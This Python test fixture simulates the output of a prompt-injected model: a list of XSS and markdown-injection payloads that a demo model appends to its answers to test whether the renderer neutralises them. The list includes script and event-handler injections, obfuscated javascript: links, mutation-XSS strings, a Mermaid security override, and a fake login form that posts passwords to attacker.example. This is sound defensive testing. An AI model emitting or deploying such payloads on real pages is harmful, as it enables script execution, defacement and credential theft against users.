"""What a prompt-injected model might emit: the block the demo model appends to its answer under the `hostile` fault.

Every payload tries to run `window.__pwned=1` (or deface the page, or phish); rendered safely, none runs and each is
still readable as text. The brief is echoed last and unquoted, as an injected model would: whatever markdown it
holds (an open code fence, say) then cannot swallow the payloads before it.
"""

# Each entry is one markdown block; blocks are separated by blank lines in the answer.
PAYLOADS: tuple[str, ...] = (
    "<script>window.__pwned=1</script>",
    "<scr<script>ipt>window.__pwned=1</script>",
    '<x<b> onmouseover="window.__pwned=1">nested tag</x>',
    '<img src=x onerror="window.__pwned=1">',
    "[click me](javascript:window.__pwned=1)",
    '<a href="JaVaScRiPt:window.__pwned=1">mixed-case scheme</a>',
    "[entity scheme](&#106;avascript&#58;window.__pwned=1)",
    "[hex entity colon](javascript&#x3a;window.__pwned=1)",
    '<a href="&#x6A;ava&#x09;script&colon;window.__pwned=1">entity and tab in the scheme</a>',
    "[tab in the scheme](<java\tscript:window.__pwned=1>)",
    "[leading space and upper case]( JAVASCRIPT:window.__pwned=1)",
    # The definition comes first and in the same block, so the streaming renderer, which renders block by block,
    # knows it too.
    "[injected]: javascript:window.__pwned=1\n[reference link][injected]",
    "<javascript:window.__pwned=1>",
    "[vbscript](vbscript:msgbox(1))",
    "[data page](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=)",
    "![javascript image](javascript:window.__pwned=1)",
    '![attribute injection](x"onerror="window.__pwned=1)',
    '![title injection](https://example.invalid/a.png "t\\" onerror=\\"window.__pwned=1")',
    '<iframe src="javascript:window.__pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<div onmouseover="window.__pwned=1">hover over me</div>',
    '<svg onload="window.__pwned=1"><circle r="10"/></svg>',
    '<svg><a xlink:href="javascript:window.__pwned=1"><text y="15">svg link</text></a></svg>',
    '<details open ontoggle="window.__pwned=1"><summary>toggle me</summary>details</details>',
    '<body onload="window.__pwned=1">',
    '<a href="#" onclick="window.__pwned=1">inline onclick</a> and <b onmouseover="window.__pwned=1">bold hover</b>',
    "<input autofocus onfocus=\"window.__pwned=1\">",
    "<style>body { display: none !important; }</style>",
    '<p style="position:fixed;inset:0;background:red">styled overlay</p>',
    '<form action="https://attacker.example/steal" method="post">Session expired. '
    '<input type="password" name="password" placeholder="Password"><button>Sign in again</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    '<base href="https://attacker.example/">',
    '<link rel="stylesheet" href="https://attacker.example/deface.css">',
    '<object data="javascript:window.__pwned=1"></object>',
    '<embed src="javascript:window.__pwned=1">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__pwned=1&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>',
    "| cell | link |\n|---|---|\n| <img src=x onerror=window.__pwned=1> | [cell link](javascript:window.__pwned=1) |",
    "`<script>window.__pwned=1</script>` in a code span",
    "```html\n<script>window.__pwned=1</script>\n```",
    # Mermaid: an attempt to lower its security level by directive, HTML in labels, and clicks to script.
    '```mermaid\n%%{init: {"securityLevel": "loose", "dompurifyConfig": {"ADD_ATTR": ["onerror"]}, '
    '"themeCSS": ".node rect { fill: red; }"}}%%\n'
    "flowchart LR\n"
    '    Start["<img src=x onerror=window.__pwned=1> Start"] --> Next["<b onmouseover=window.__pwned=1>Next</b>"]\n'
    '    click Start href "javascript:window.__pwned=1"\n'
    "    click Next call pwn()\n"
    "```",
)

HEADING = "## Injected content"


def hostile_block(brief: str) -> str:
    """The hostile markdown to append to an answer, ending with the brief echoed raw."""
    return "\n\n".join((HEADING, *PAYLOADS, f"The brief, as given: {brief}")) + "\n"
